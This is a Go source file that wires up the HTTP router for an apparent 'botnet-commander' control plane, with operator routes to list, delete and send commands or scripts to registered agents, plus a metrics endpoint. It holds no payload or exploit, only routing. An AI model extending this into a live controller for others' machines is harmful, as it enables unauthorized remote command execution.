package api

import (
	"net/http"

	"github.com/go-chi/chi/v5"
	"github.com/go-chi/chi/v5/middleware"
	"go.uber.org/zap"

	"github.com/rpcyber/botnet-commander/internal/dispatch"
	"github.com/rpcyber/botnet-commander/internal/metrics"
	"github.com/rpcyber/botnet-commander/internal/registry"
	"github.com/rpcyber/botnet-commander/internal/store"
)

// RouterConfig holds the dependencies the control plane needs. Populated in
// main after all components are initialized.
type RouterConfig struct {
	Registry   *registry.Registry
	Store      *store.Store
	Dispatcher *dispatch.Dispatcher
	Metrics    *metrics.Metrics
	Logger     *zap.Logger
}

// NewRouter builds the Chi router. Operator routes live under /api/v1;
// Prometheus exposition is mounted at /metrics.
func NewRouter(cfg RouterConfig) http.Handler {
	r := chi.NewRouter()

	r.Use(middleware.RequestID)
	r.Use(middleware.RealIP)
	r.Use(RequestLogger(cfg.Logger.Named("api")))
	r.Use(middleware.Recoverer)

	h := &agentHandler{
		registry:   cfg.Registry,
		store:      cfg.Store,
		dispatcher: cfg.Dispatcher,
		log:        cfg.Logger.Named("api"),
	}

	r.Route("/api/v1", func(r chi.Router) {
		r.Get("/agents/count", h.Count)
		r.Get("/agents/{entity}/list", h.List)
		r.Get("/agents/{entity}/history", h.History)
		r.Post("/agents/{entity}/cmd", h.Command)
		r.Post("/agents/{entity}/script", h.Script)
		r.Delete("/agents/{entity}/delete", h.Delete)
		r.Get("/timeout", h.GetTimeout)
		r.Put("/timeout", h.SetTimeout)
	})

	r.Method(http.MethodGet, "/metrics", cfg.Metrics.Handler())

	return r
}
